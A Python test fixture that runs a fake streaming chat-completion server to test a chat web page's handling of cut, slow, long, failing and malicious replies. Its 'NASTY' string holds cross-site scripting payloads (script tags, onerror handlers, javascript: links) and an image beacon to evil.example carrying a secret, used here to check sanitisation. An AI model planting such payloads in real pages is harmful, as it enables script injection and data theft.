"""A chat server for the page's tests: it serves the page as the API does, and answers by what it is asked for
("cut", "slow", ...). It counts what it makes and notices when a client goes away."""

import json
import mimetypes
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import shoestring.serve

WEB = Path(shoestring.serve.__file__).parent / "web"
CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
    "connect-src 'self'; manifest-src 'self'; worker-src 'self'; base-uri 'none'; form-action 'none'; "
    "frame-ancestors 'none'"
)
LINEAGE = {
    "stages": [
        {
            "name": "tiny-base",
            "job": "base",
            "date": "2026-01-02T00:00:00+00:00",
            "detail": {"copy_of": "Someone/Tiny", "licence": "Apache-2.0", "precision": "bfloat16"},
            "origins": [],
        },
        {
            "name": "cold-start",
            "job": "sft",
            "date": "2026-01-03T00:00:00+00:00",
            "detail": {"steps": 100},
            "origins": [
                {"source": "procedural:sums", "licence": "CC0-1.0", "teacher": None},
                {"source": "teacher:sums", "licence": "MIT", "teacher": "big-r1", "teacher_licence": "MIT"},
            ],
        },
    ]
}
MODELS = [
    {"id": "reasoner", "object": "model", "max_model_len": 2048, "licence": "Apache-2.0", "stage": "sft"}
    | {"lineage": LINEAGE, "audits": [{"name": "identity", "result": "passed", "detail": "0 of 200"}]}
    | {"cost": {"seconds": 75.0, "kwh": 0.0123, "usd": 0.00065, "stages": ["cold-start"]}, "filters": []},
    {"id": "base", "object": "model", "max_model_len": 2048},
]
NASTY = """\
<script>document.title = "owned"</script><img src=x onerror="document.title='owned'">
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<svg onload="document.title='owned'"><style>body { display: none }</style>

[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [fine](https://example.org/a)
![shot](https://evil.example/pixel.png?secret=1)

<a href="javascript:document.title='owned'">raw</a> `</code><script>document.title='owned'</script>`

$\\href{javascript:document.title='owned'}{x}$ and $\\includegraphics{https://evil.example/pixel.png}$

| a | b |
|---|---|
| <img src=x onerror=document.title='owned'> | <br> |

```html"><script>document.title='owned'</script>
<script>document.title='owned'</script>
```
"""
RICH = """\
## A *heading*

Prices of $5 and $6, a formula $x^2 + \\frac{1}{2}$ and

$$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$

- one
- two

  still two

| a | b |
|--:|---|
| 1 | 2 |

```python
def twice(x):
    return 2 * x
```
"""


@dataclass
class Asked:
    """One request, and what became of it."""

    body: dict[str, Any]
    made: int = 0
    gone: bool = False  # the client went away before the end
    done: bool = False


@dataclass
class Script:
    """What to say: pieces of thinking and of answer, with a pause before each; then how it ends."""

    thinking: list[str] = field(default_factory=list)
    answer: list[str] = field(default_factory=list)
    pause: float = 0.0
    finish: str = "stop"
    details: dict[str, Any] = field(default_factory=dict)


def words(number: int, word: str = "word") -> list[str]:
    return [f"{word}{i} " + ("\n\n" if i % 60 == 59 else "") for i in range(number)]


def script_for(text: str, body: dict[str, Any]) -> Script:
    thinks = (body.get("thinking") or {}).get("type") != "disabled" and body["model"] != "base"
    if body["messages"][-1].get("prefix"):
        return Script([], ["and ", "the ", "rest."])
    scripts = {
        "cut": Script(words(3, "hm"), words(5), finish="length", details={"truncated_in": "content"}),
        "cut thinking": Script(words(8, "hm"), finish="length", details={"truncated_in": "reasoning"}),
        "loop": Script([], ["again "] * 12, details={"reason": "loop"}),
        "slow": Script(words(400, "hm"), words(2000), 0.02),
        "slow answer": Script([], words(2000), 0.02),
        "long": Script([], words(30_000)),
        "long thinking": Script(words(30_000), ["done"]),
        "long code": Script([], ["```python\n", *(f"x{i} = {i}\n" for i in range(15_000)), "```\n"]),
        "long table": Script([], ["| a | b |\n|---|---|\n", *(f"| x{i} | y |\n" for i in range(10_000))]),
        "long list": Script([], ["- top\n", *(f"  - x{i} of a list\n" for i in range(6000))]),
        "long item": Script([], ["- ", *(f"x{i} " for i in range(30_000))]),
        "long quote": Script([], [f"> x{i} said\n" for i in range(7500)]),
        "long maths": Script([], ["$$\n", *(f"x{i} + \n" for i in range(10_000))]),
        "long code in a list": Script([], ["- a\n\n  ```python\n", *(f"  x{i} = 1\n" for i in range(7500))]),
        "empty": Script(words(3, "hm"), []),
        "nothing": Script([], []),
        "nasty": Script([NASTY], [NASTY]),
        "rich": Script([], [RICH]),
        "full": Script([], words(20)),
    }
    found = scripts.get(text, Script(words(6, "hm"), ["It ", "is ", "**33**."], 0.01))
    return found if thinks else Script([], found.answer, found.pause, found.finish, found.details)


class Handler(BaseHTTPRequestHandler):
    server: "Server"
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/v1/models":
            if self.server.key and self.headers.get("Authorization") != f"Bearer {self.server.key}":
                return self._json({"error": {"message": "a key is needed"}}, 401)
            return self._json({"object": "list", "data": MODELS})
        file = WEB / ("index.html" if path == "/" else path.lstrip("/"))
        if not file.is_file() or WEB not in file.resolve().parents:
            return self._json({"error": {"message": "not found"}}, 404)
        kind = "application/manifest+json" if file.suffix == ".webmanifest" else mimetypes.guess_type(file)[0]
        kind = "text/javascript" if file.suffix in (".js", ".mjs") else kind
        self._send(file.read_bytes(), kind or "application/octet-stream", {"Content-Security-Policy": CSP})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        asked = Asked(body)
        self.server.asked.append(asked)
        text = [m["content"] for m in body["messages"] if m["role"] == "user"][-1]
        if text == "busy":
            error = {"error": {"message": "the queue is full (256 requests)"}}
            return self._json(error, 503, {"Retry-After": "7"})
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        try:
            for piece in self._pieces(text, body, asked):
                self.wfile.write(piece.encode())
                self.wfile.flush()
            asked.done = True
        except OSError:
            asked.gone = True

    def _pieces(self, text: str, body: dict[str, Any], asked: Asked) -> Iterator[str]:
        if text == "queue":
            for position in (3, 2, 1):
                yield f": queued, place {position} of 9, about {position * 2} s\n\n"
                time.sleep(0.25)
        script = script_for(text, body)
        yield chunk(body, {"role": "assistant"})
        for name, pieces in (("reasoning_content", script.thinking), ("content", script.answer)):
            for piece in pieces:
                time.sleep(script.pause) if script.pause else None
                asked.made += 1
                yield chunk(body, {name: piece})
                if text == "broken" and asked.made == 4:
                    return
                if text == "fails" and asked.made == 4:
                    yield 'data: {"error": {"message": "the engine failed"}}\n\n'
                    return
        yield chunk(body, {}, script.finish, script.details)
        prompt = 1700 if text == "full" else 20
        usage = {
            "prompt_tokens": prompt,
            "completion_tokens": asked.made,
            "total_tokens": prompt + asked.made,
        }
        usage |= {"completion_tokens_details": {"reasoning_tokens": len(script.thinking)}}
        applied = {"max_tokens": 2048, "thinking_tokens": None, "seed": 7}
        last = {"choices": [], "usage": usage, "applied": applied}
        yield f"data: {json.dumps(last)}\n\ndata: [DONE]\n\n"

    def _json(self, values: dict[str, Any], status: int = 200, headers: dict[str, str] | None = None) -> None:
        self._send(json.dumps(values).encode(), "application/json", headers or {}, status)

    def _send(self, raw: bytes, kind: str, headers: dict[str, str], status: int = 200) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": kind, "Content-Length": str(len(raw)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(raw)


def chunk(body: dict[str, Any], delta: dict[str, str], finish: str | None = None, details: Any = None) -> str:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    if details:
        choice["finish_details"] = details
    values = {"object": "chat.completion.chunk", "model": body["model"], "choices": [choice]}
    return f"data: {json.dumps(values)}\n\n"


class Server(ThreadingHTTPServer):
    daemon_threads = True
    key = ""  # an API key that is asked for

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: list[Asked] = []
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"

    def __enter__(self) -> "Server":
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.shutdown()
        self.server_close()
        self.thread.join()
